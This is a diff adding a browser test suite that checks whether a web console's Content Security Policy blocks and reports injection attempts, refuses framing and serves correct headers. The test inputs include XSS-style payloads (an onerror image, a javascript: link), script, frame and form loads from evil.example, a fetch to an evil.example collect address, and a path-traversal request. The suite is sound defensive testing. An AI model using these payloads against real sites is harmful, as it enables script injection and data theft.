@@ -1,0 +1,178 @@
+import { describe, expect } from "vitest";
+import { test } from "./harness/test";
+
+/** What an attacker would try from within a page, and the directives of which one must stop it. */
+const attempts: Record<string, { directive: string; run: () => void }> = {
+  "an inline script": {
+    directive: "require-trusted-types-for script-src-elem script-src",
+    run() {
+      const script = document.createElement("script");
+      const text = document.createTextNode("window.ran = true");
+      script.append(text);
+      document.head.append(script);
+    },
+  },
+  "innerHTML": {
+    directive: "require-trusted-types-for",
+    run() {
+      document.createElement("div").innerHTML = "<img src=x onerror='window.ran = true'>";
+    },
+  },
+  "an event handler as text": {
+    directive: "require-trusted-types-for",
+    run() {
+      const image = document.createElement("img");
+      image.setAttribute("onerror", "window.ran = true");
+      image.src = "data:,";
+    },
+  },
+  "a javascript: address": {
+    directive: "require-trusted-types-for script-src-elem script-src",
+    run() {
+      const link = document.createElement("a");
+      link.href = "javascript:void (window.ran = true)";
+      document.body.append(link);
+      link.click();
+    },
+  },
+  "a script from elsewhere": {
+    directive: "require-trusted-types-for",
+    run() {
+      const script = document.createElement("script");
+      script.src = "https://evil.example/x.js";
+      document.head.append(script);
+    },
+  },
+  "a policy of one's own for trusted types": {
+    directive: "trusted-types",
+    run() {
+      const factory: unknown = Reflect.get(window, "trustedTypes");
+      if (typeof factory === "object" && factory !== null && "createPolicy" in factory && typeof factory.createPolicy === "function") factory.createPolicy("default", {});
+    },
+  },
+  "an inline style": {
+    directive: "style-src-attr",
+    run() {
+      document.body.setAttribute("style", "display: none");
+    },
+  },
+  "a call to elsewhere": {
+    directive: "connect-src",
+    run() {
+      fetch("https://evil.example/collect").catch(() => {});
+    },
+  },
+  "a frame from elsewhere": {
+    directive: "frame-src",
+    run() {
+      const frame = document.createElement("iframe");
+      frame.src = "https://evil.example/";
+      document.body.append(frame);
+    },
+  },
+  "a form to elsewhere": {
+    directive: "form-action",
+    run() {
+      const form = document.createElement("form");
+      form.action = "https://evil.example/";
+      document.body.append(form);
+      form.submit();
+    },
+  },
+  "another base for every address": {
+    directive: "base-uri",
+    run() {
+      const base = document.createElement("base");
+      base.href = "https://evil.example/";
+      document.head.append(base);
+    },
+  },
+  "an image without encryption": {
+    directive: "img-src",
+    run() {
+      const image = document.createElement("img");
+      image.src = "http://evil.example/x.png";
+    },
+  },
+  "a worker": {
+    directive: "require-trusted-types-for",
+    run() {
+      void new Worker("/assets/worker.js");
+    },
+  },
+  "a plugin": {
+    directive: "require-trusted-types-for object-src",
+    run() {
+      const plugin = document.createElement("embed");
+      plugin.type = "text/html";
+      plugin.setAttribute("src", "https://evil.example/");
+      document.body.append(plugin);
+    },
+  },
+};
+
+describe("the policy, tried out", () => {
+  test("blocks and counts each of fourteen breaches", async ({ begin, visit, witness }) => {
+    const console = await begin();
+    const page = await (await visit()).newPage();
+    await page.goto(console.url);
+    await page.getByRole("button", { name: "Sign in with SSO" }).waitFor();
+    expect(witness.complaints).toEqual([]);
+    for (const [what, { directive, run }] of Object.entries(attempts)) {
+      await page.goto(console.url);
+      await page.getByRole("button", { name: "Sign in with SSO" }).waitFor();
+      witness.complaints.splice(0);
+      await page.evaluate(run).catch(() => {
+        // Some of it throws; whether it was blocked is asked below.
+      });
+      const stopped = directive.split(" ").map((name) => `policy: ${name} blocked`);
+      await expect.poll(() => witness.complaints.filter((complaint) => stopped.some((start) => complaint.startsWith(start))), { message: what }).not.toEqual([]);
+      expect(await page.evaluate(() => "ran" in window), what).toBe(false);
+      expect(page.url(), what).toBe(`${console.url}/`);
+    }
+    await page.close();
+    witness.complaints.splice(0);
+  });
+
+  test("a module made of text", async ({ begin, visit, witness }) => {
+    witness.forgive(/./);
+    const console = await begin();
+    const page = await (await visit()).newPage();
+    await page.goto(console.url);
+    // As text, so that no bundler rewrites the import.
+    expect(await page.evaluate(`import("data:text/javascript,window.ran=true").then(() => "ran", () => "blocked")`)).toBe("blocked");
+  });
+});
+
+describe("being framed", () => {
+  test("is refused to everybody but the bridge", async ({ begin, visit, witness }) => {
+    witness.forgive(/./);
+    const console = await begin();
+    const context = await visit();
+    const page = await context.newPage();
+    const other = console.url.replace("localhost", "127.0.0.1");
+    await page.route(`${other}/framing`, (route) => route.fulfill({ contentType: "text/html", body: `<iframe src="${console.url}/"></iframe><iframe src="${console.url}/redirect.html"></iframe>` }));
+    await page.goto(`${other}/framing`);
+    await expect.poll(() => page.frames().slice(1).map((frame) => frame.url())).toEqual(["chrome-error://chromewebdata/", "chrome-error://chromewebdata/"]);
+  });
+});
+
+describe("what is served", () => {
+  test("has its headers by kind, and a missing file is missing", async ({ begin }) => {
+    const { url } = await begin();
+    const head = async (path: string) => {
+      const { status, headers } = await fetch(url + path);
+      return { status, cache: headers.get("cache-control"), type: headers.get("content-type")?.split(";")[0], sniff: headers.get("x-content-type-options"), policy: headers.get("content-security-policy") };
+    };
+    const document = await (await fetch(url)).text();
+    const asset = /\/assets\/[^"]+\.js/.exec(document)?.[0] ?? "";
+    expect(await head("/runs/any?x=1")).toMatchObject({ status: 200, cache: "no-store", type: "text/html", sniff: "nosniff" });
+    expect((await head("/")).policy).toContain("require-trusted-types-for 'script'");
+    expect(await head(asset)).toMatchObject({ status: 200, cache: "public, max-age=31536000, immutable", type: "text/javascript", sniff: "nosniff" });
+    expect(await head("/assets/index-old.js")).toMatchObject({ status: 404, cache: "no-store", type: "text/plain" });
+    expect(await head("/missing.png")).toMatchObject({ status: 404 });
+    expect((await head("/redirect.html")).policy).toContain("frame-ancestors 'self'");
+    // An address like any other: the console's own document, and nothing from above its folder.
+    expect(await head("/..%2f..%2fpackage.json")).toMatchObject({ type: "text/html", cache: "no-store" });
+  });
+});
